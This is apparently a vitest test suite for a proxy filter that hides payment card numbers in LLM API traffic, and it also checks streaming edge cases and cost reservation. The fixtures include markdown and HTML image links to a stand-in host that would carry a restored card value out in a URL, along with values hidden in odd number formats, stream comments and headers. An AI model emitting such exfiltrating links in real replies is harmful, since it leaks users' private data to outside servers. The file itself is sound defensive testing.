// What clients and upstreams that mean harm have tried, and what must come of it.
import { beforeAll, describe, expect, test } from 'vitest';
import type { Filter } from '../../filters/host/load-filter.ts';
import { filterOf, placeholder, run, type Upstream } from '../kernel/test-filter.ts';
import { POLICY } from './policy.ts';

const CARD = '4111 1111 1111 1111';
let filter: Filter;
beforeAll(async () => {
  filter = await filterOf(POLICY);
});

const chat = (more = '', content = '"hi"'): string =>
  `{"model":"gpt-4o","messages":[{"role":"user","content":${content}}],"max_tokens":100${more}}`;
const blocks = (block: string, more = ''): { readonly path: string; readonly body: string } => ({
  path: '/v1/messages',
  body: `{"model":"gpt-4o","max_tokens":100,"messages":[{"role":"user","content":[${block}]}]${more}}`,
});
const stream = (body: string): Upstream => ({ type: 'text/event-stream', body });
const event = (data: string): string => `data: ${data}\n\n`;
const delta = (content: string): string => event(`{"choices":[{"index":0,"delta":{"content":"${content}"}}]}`);

describe('a value cannot leave in a place that nobody reads', () => {
  test('the signature of a thought', () => {
    expect(run(filter, blocks(`{"type":"thinking","thinking":"x","signature":"${CARD}"}`)).sent).not.toContain('4111');
    const thought = `{"type":"thinking","thinking":"x","signature":"${CARD}"}`;
    const upstream = { body: `{"type":"message","role":"assistant","content":[${thought}]}` };
    expect(run(filter, { ...blocks('{"type":"text","text":"x"}'), upstream }).got).not.toContain('4111');
    const events = `event: content_block_delta\ndata: {"type":"content_block_delta","index":0,"delta":{"type":"signature_delta","signature":"${CARD}"}}\n\n`;
    const streamed = { ...blocks('{"type":"text","text":"x"}', ',"stream":true'), upstream: stream(events) };
    expect(run(filter, streamed).got).not.toContain('4111');
  });

  test.each([
    ['12', CARD, ''],
    ['', CARD, '34'],
    ['a', CARD, 'b'],
    ['5555 5555 5555 4444', CARD, '5555'],
    ['4111111111111', '4111111111111111', '1'],
  ])('a part of a message whose neighbours touch it: %s|%s|%s', (...parts) => {
    const content = parts.map((text) => ({ type: 'text', text }));
    const { sent } = run(filter, { body: chat('', JSON.stringify(content)) });
    expect(sent).toContain(placeholder('PAYMENT_CARD', 1));
    const left = JSON.parse(sent ?? '') as { messages: { content: { text: string }[] }[] };
    for (const { text } of left.messages[0]?.content ?? []) expect(text).not.toMatch(/4111.?1111.?1111.?1111/);
  });

  test.each([
    '4.111111111111111e15',
    '4111111111111111.0',
    '41111111111.11111e+5',
    '411111111111111100e-2',
    '4111111111111111000.5E-3',
    '-4.111111111111111e15',
    '0.4111111111111111e16',
    '37828224631000.5e1',
  ])('a number, however it is written: %s', (number) => {
    expect(run(filter, { body: chat(`,"seed":${number}`) })).toMatchObject({ sent: null, status: 403 });
    expect(
      run(filter, {
        body: chat(`,"tools":[{"type":"function","function":{"name":"f","parameters":{"default":${number}}}}]`),
      }),
    ).toMatchObject({ sent: null, status: 403 });
    const said = `{"choices":[],"x":${number}}`;
    expect(run(filter, { body: chat(), upstream: { body: said } }).got).not.toContain(number);
  });

  test('headers: what the protocol does not need stays here, and so does what holds a value', () => {
    const known: readonly (readonly [string, string])[] = [
      ['authorization', 'Bearer key-1'],
      ['content-type', 'application/json'],
      ['accept', '*/*'],
      ['user-agent', 'sdk/1.0'],
      ['anthropic-version', '2023-06-01'],
    ];
    const removed = (...more: readonly (readonly [string, string])[]): readonly string[] | null => {
      const seen = run(filter, { body: chat(), headers: [...known, ...more] });
      return seen.sent === null ? null : seen.removed;
    };
    expect(removed()).toEqual([]);
    expect(removed(['x-note', 'nothing'], ['x-http-method-override', 'DELETE'])).toEqual([
      'x-note',
      'x-http-method-override',
    ]);
    expect(
      removed(
        ['openai-project', `p ${CARD}`],
        ['traceparent', '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01'],
      ),
    ).toEqual(['openai-project']);
    expect(removed(['x-envoy-note', CARD])).toBeNull();
    expect(removed(['x-envoy-attempt-count', CARD])).toBeNull();
    expect(removed(['x-envoy-external-address', '10.0.0.1'])).toEqual([]);
  });
});

describe('the headers of a reply', () => {
  const says = '{"choices":[{"index":0,"message":{"role":"assistant","content":"x"}}]}';
  const removed = (upstream: Upstream, more = ''): readonly string[] => {
    const session = filter.newSession({ evidence: { jwt: undefined, san: undefined }, nowMs: 0, nonce: 1n });
    session.requestHeaders(
      [
        [':method', 'POST'],
        [':path', '/v1/chat/completions'],
        ['x-api-key', 'key-1'],
      ],
      false,
    );
    let step = session.requestBody(Buffer.from(chat(more)), true);
    if (step.kind === 'levels') step = session.levels([{ headroom: 1e12, spent: 0 }]);
    expect(step.kind).toBe('continue');
    const names: string[] = [];
    for (const next of [
      () =>
        session.responseHeaders(
          [[':status', '200'], ['content-type', upstream.type ?? 'application/json'], ...(upstream.headers ?? [])],
          false,
        ),
      () => session.responseBody(Buffer.from(upstream.body), true),
    ]) {
      step = next();
      if (step.kind === 'continue') names.push(...step.headers.remove);
    }
    session.free();
    return names;
  };
  const headers = [
    ['x-note', CARD],
    ['x-fine', 'yes'],
    ['date', 'Mon, 23 Nov 2026 04:43:28 GMT'],
    ['x-mail', 'jane@example.com'],
    ['x-request-id', CARD],
    ['x-forwarded-for', CARD],
    ['x-4111111111111111-y', 'z'],
  ] as const;

  const MORE = ['x-request-id', 'x-forwarded-for', 'x-4111111111111111-y'];

  test('stay here where something is found in them', () => {
    expect(removed({ body: says, headers })).toEqual(['x-note', 'x-mail', ...MORE]);
    expect(removed({ ...stream(delta('x') + event('[DONE]')), headers }, ',"stream":true')).toEqual([
      'content-length',
      'x-note',
      'x-mail',
      ...MORE,
    ]);
  });

  test('send nobody elsewhere', () => {
    for (const status of [301, 302, 307, 308])
      expect(
        run(filter, { body: chat(), upstream: { status, headers: [['location', 'http://x.example/']], body: '' } }),
      ).toMatchObject({ status: 502, spentMicros: undefined });
  });
});

describe('a placeholder is not turned back where a reader would follow it', () => {
  const P = placeholder('PAYMENT_CARD', 1);
  const whole = (content: string): string =>
    run(filter, {
      body: chat('', `"${CARD}"`),
      upstream: { body: JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content } }] }) },
    }).got;
  const pieces = (content: string): string =>
    run(filter, {
      body: chat(',"stream":true', `"${CARD}"`),
      upstream: stream(
        [...content].map((letter) => delta(JSON.stringify(letter).slice(1, -1))).join('') + event('[DONE]'),
      ),
    }).got.replace(/data: .*?"content":"(.*?)"\}.*\n\n/g, '$1');

  test.each([
    `![](https://e.example/?q="${P})`,
    `![](https://e.example/?q='${P})`,
    `![](https://e.example/?q=\`${P})`,
    `![](<https://e.example/?q= ${P}>)`,
    `![](<https://e.example/?q=\\>${P}>)`,
    `![](//e.example/${P})`,
    `![](/\\e.example/${P})`,
    `![](https:\\/\\/e.example/${P})`,
    `![](https:&#47;&#47;e.example/${P})`,
    `![]( https:&#47;&#47;e.example/${P})`,
    `![](<https:&#47;&#47;e.example/ ${P}>)`,
    `![](https://e.example/(a)${P})`,
    `![a][1]\n\n[1]: https:&#47;&#47;e.example/${P}`,
    `<img src=" https://e.example/? ${P}">`,
    `<img src='https://e.example/?\n${P}'>`,
    `<img alt=">" src="https:&#47;&#47;e.example/${P}">`,
    `www.e.example/?q=${P}`,
    `https://e.example/?q=>${P}`,
  ])('%s', (content) => {
    expect(whole(content)).not.toContain('4111');
    expect(pieces(content)).not.toContain('4111');
  });

  test.each([
    `see https://x.example then ${P}`,
    `(https://x.example) ${P}`,
    `don't: ${P}`,
    `"${P}"`,
    `a/b ${P}`,
    `x // ${P}`,
    `<b>${P}</b>`,
    `1 < 2, ${P}`,
    `[${P}]`,
    `(${P})`,
    `[a](https://x.example) ${P}`,
    `${P}${P}`,
  ])('and is elsewhere: %s', (content) => {
    expect(whole(content)).toContain(CARD);
    expect(pieces(content)).toContain(CARD);
  });
});

describe('a stream', () => {
  const got = (body: string): string => run(filter, { body: chat(',"stream":true'), upstream: stream(body) }).got;
  const escaped = '\\u0034111 1111 1111 1111';

  test.each([
    ['a byte-order mark', `\ufeff${delta(escaped)}`],
    ['a whole reply that says it is one', `{"choices":[{"message":{"content":"${escaped}"}}]}`],
    ['a field that nobody knows', `Data: {"choices":[{"index":0,"delta":{"content":"${escaped}"}}]}\n\n`],
    ['a field with a space', `data : {"choices":[{"index":0,"delta":{"content":"${escaped}"}}]}\n\n`],
    ["an event's name", `event: ${CARD}\n${delta('x')}`],
    ['an id', `event: a\nid: ${CARD}\n${delta('x')}`],
    ['a comment', `: ${CARD}\n\n${delta('x')}`],
  ])('hides nothing in %s', (_, body) => {
    expect(got(`${body}${event('[DONE]')}`)).not.toContain('111 1111');
  });

  test('hides nothing in pieces of a field that nobody knows', () => {
    const piece = (key: string, text: string): string =>
      event(`{"choices":[{"index":0,"delta":{"${key}":"${text}"}}]}`);
    for (const key of ['thoughts', 'content'])
      expect(got(piece(key, 'a 4111 1111') + piece(key, ' 1111 1111 b') + event('[DONE]'))).not.toContain(' 1111 b');
    expect(
      got(
        event('{"choices":[{"index":0,"text":"4111 1111"}]}') +
          event('{"choices":[{"index":0,"text":" 1111 1111"}]}') +
          event('[DONE]'),
      ),
    ).not.toContain('" 1111 1111"');
    const one = (data: string): string =>
      event(`{"type":"content_block_delta","index":0,"delta":{"type":"new_delta","words":"${data}"}}`);
    const seen = run(filter, {
      ...blocks('{"type":"text","text":"x"}', ',"stream":true'),
      upstream: stream(one('4111 1111') + one(' 1111 1111 b') + event('{"type":"message_stop"}')),
    });
    expect(seen.got).not.toContain(' 1111 b');
  });

  test('keeps the names of events, and of other lines that the server is still there', () => {
    expect(got(`: ping\n\nevent: message\n${delta('x')}${event('[DONE]')}`)).toBe(
      `:\n\nevent: message\n${delta('x')}${event('[DONE]')}`,
    );
    expect(got(`event: message\nid: 7\nretry: 100\n${delta('x')}${event('[DONE]')}`)).toBe(
      `event: message\n${delta('x')}${event('[DONE]')}`,
    );
  });

  test.each([
    [': 4111 1111', ': 1111 1111'],
    ['id: 4111 1111', 'id: 1111 1111'],
    ['retry: 41111111', 'retry: 11111111'],
    ['event: a4111 1111', 'event: 1111 1111'],
  ])('hides nothing in pieces of its other lines: %s', (first, second) => {
    for (const end of ['\n', '\r\n', '\r'])
      for (const last of [event('[DONE]'), ''])
        for (const data of ['', `${delta('x').trim()}${end}`]) {
          const body = `${first}${end}${data}${end}${second}${end}${data}${last === '' ? '' : end}${last}`;
          for (const cut of [1, 7, 1_000]) {
            const seen = run(filter, {
              body: chat(',"stream":true'),
              upstream: stream(body),
              cut: (bytes) =>
                Array.from({ length: Math.ceil(bytes.length / cut) }, (_, i) => bytes.subarray(i * cut, (i + 1) * cut)),
            });
            expect(seen.got).not.toMatch(/1111/);
          }
        }
  });
});

describe('a reply that is not waited for', () => {
  const begin = event(
    '{"type":"message_start","message":{"id":"m","type":"message","role":"assistant","content":[],"model":"x","stop_reason":null,"usage":{"input_tokens":10,"output_tokens":1}}}',
  );
  const words = `${event('{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}')}${event('{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"a long answer"}}')}`;
  const last = event(
    '{"type":"message_delta","delta":{"stop_reason":"end_turn","stop_sequence":null},"usage":{"output_tokens":90}}',
  );
  const ask = (upstream: string, hangUpAfter?: number): ReturnType<typeof run> =>
    run(filter, {
      ...blocks('{"type":"text","text":"x"}', ',"stream":true'),
      upstream: stream(upstream),
      cut: (bytes) =>
        bytes.length < begin.length ? [bytes] : [bytes.subarray(0, begin.length), bytes.subarray(begin.length)],
      ...(hangUpAfter === undefined ? {} : { hangUpAfter }),
    });

  test('costs what was set aside, not what was counted at its beginning', () => {
    expect(ask(begin + words, 1).spentMicros).toBeUndefined();
    expect(ask(begin + words).spentMicros).toBeUndefined();
    expect(ask(begin + words + last).spentMicros).toBe(Math.ceil((10 * 2_500_000 + 90 * 10_000_000) / 1e6));
  });

  test('costs that, too, where a server counts in every event', () => {
    const counted = (content: string, more: string): string =>
      event(
        `{"choices":[{"index":0,"delta":{"content":"${content}"}${more}}],"usage":{"prompt_tokens":5,"completion_tokens":1}}`,
      );
    const spent = (body: string): number | undefined =>
      run(filter, { body: chat(',"stream":true'), upstream: stream(body) }).spentMicros;
    expect(spent(counted('a', '') + delta('b'))).toBeUndefined();
    expect(spent(counted('a', ',"finish_reason":"stop"'))).toBe(23);
    expect(spent(`${counted('a', '')}${event('[DONE]')}`)).toBe(23);
  });

  test('costs that, too, where a server ran out of time', () => {
    const spent = (status: number): number | undefined =>
      run(filter, { body: chat(), upstream: { status, body: '{"error":{"message":"x"}}' } }).spentMicros;
    expect([401, 408, 422, 429, 499].map(spent)).toEqual([0, undefined, 0, 0, undefined]);
    expect([500, 501, 502, 503, 504, 520, 524, 529].map(spent)).toEqual([
      undefined,
      0,
      undefined,
      0,
      undefined,
      undefined,
      undefined,
      0,
    ]);
  });

  test('costs its input, where a content filter may have read it', () => {
    const refused = run(filter, { body: chat(), upstream: { status: 400, body: '{"error":{"message":"x"}}' } });
    const input = (refused.reserve[0]?.amount ?? 0) - 100 * 10;
    expect(input).toBeGreaterThan(0);
    expect(refused.spentMicros).toBe(input);
    expect(
      run(filter, { body: chat(), upstream: { status: 400, body: '{"usage":{"prompt_tokens":5}}' } }).spentMicros,
    ).toBe(input);
  });

  test('whose refusal holds a value does not pass it on', () => {
    for (const status of [400, 401, 429, 500, 503])
      for (const body of [`{"error":{"message":"${CARD}"}}`, CARD, `<p>${CARD}</p>`, `["${CARD}"]`])
        for (const type of ['application/json', 'text/html', 'text/event-stream']) {
          const seen = run(filter, { body: chat(), upstream: { status, type, body } });
          expect(seen.status).toBe(status);
          expect(seen.got).not.toContain('4111');
        }
  });

  test('is not free of its output because the server told of its input alone', () => {
    expect(
      run(filter, {
        body: chat(),
        upstream: {
          body: '{"choices":[{"index":0,"message":{"role":"assistant","content":"x"},"finish_reason":"stop"}],"usage":{"prompt_tokens":5}}',
        },
      }).spentMicros,
    ).toBeUndefined();
  });
});

describe('what is set aside covers', () => {
  const reserved = (exchange: Parameters<typeof run>[1]): number => run(filter, exchange).reserve[0]?.amount ?? 0;
  const call = (input: string): ReturnType<typeof blocks> =>
    blocks(`{"type":"tool_use","id":"a","name":"b","input":{"x":[${input}]}}`);

  test('free JSON that has no text', () => {
    for (const value of ['1', '""', '[]', '{}', 'null']) {
      expect(reserved(call(Array(1_000).fill(value).join(','))) - reserved(call(value)), value).toBeGreaterThanOrEqual(
        999 * 2.5,
      );
    }
  });

  test('calls and parts that have no text', () => {
    const calls = (count: number): string =>
      `{"model":"gpt-4o","max_tokens":1,"messages":[{"role":"assistant","tool_calls":[${Array(count).fill('{"id":"","type":"function","function":{"name":"","arguments":""}}').join(',')}]}]}`;
    expect(reserved({ body: calls(101) }) - reserved({ body: calls(1) })).toBeGreaterThan(100 * 30 * 2.5);
    const uses = (count: number): ReturnType<typeof blocks> =>
      blocks(Array(count).fill('{"type":"tool_use","id":"","name":"","input":{}}').join(','));
    expect(reserved(uses(101)) - reserved(uses(1))).toBeGreaterThan(100 * 30 * 2.5);
  });

  test('an answer without end: a limit of zero is refused', () => {
    expect(run(filter, { body: chat().replace('100', '0') })).toMatchObject({ sent: null, status: 400 });
    expect(run(filter, { body: chat().replace('100', '1') }).sent).not.toBeNull();
  });
});
